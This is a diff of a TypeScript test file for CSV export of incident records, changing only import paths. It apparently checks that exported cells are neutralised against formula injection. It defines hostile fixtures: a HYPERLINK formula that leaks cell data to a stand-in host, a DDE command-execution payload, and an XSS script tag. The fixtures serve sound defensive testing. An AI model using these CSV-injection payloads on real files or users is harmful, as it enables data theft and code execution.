@@ -3,13 +3,13 @@
 // leading '), the file stays valid RFC 4180 with the same number of fields on every line,
 // and importing it gives back the text exactly as stored.
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { DEFAULT_FILTERS } from "../filters.ts";
+import { DEFAULT_FILTERS } from "../incident-model.ts";
 import { parseCsv } from "../csv-parse.ts";
-import { readImportFile } from "../import/incident-rows.ts";
+import { readImportFile } from "../records/import-rows.ts";
 import { FIXTURE } from "../testing/fixture.ts";
 import { backends, freshDatabase, type TestDatabase } from "../testing/test-db.ts";
 import { INCIDENT_CSV_HEADER, incidentCsvStream } from "./incident-export.ts";
-import { writeDataset } from "./write-dataset.ts";
+import { writeDataset } from "../write/write-dataset.ts";
 
 const HOSTILE_TARGET = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
 const HOSTILE_SUMMARY = `+cmd|' /C calc'!A0 then @SUM(1+1) and -2+3; <script>alert("xss")</script> "quoted", with comma`;
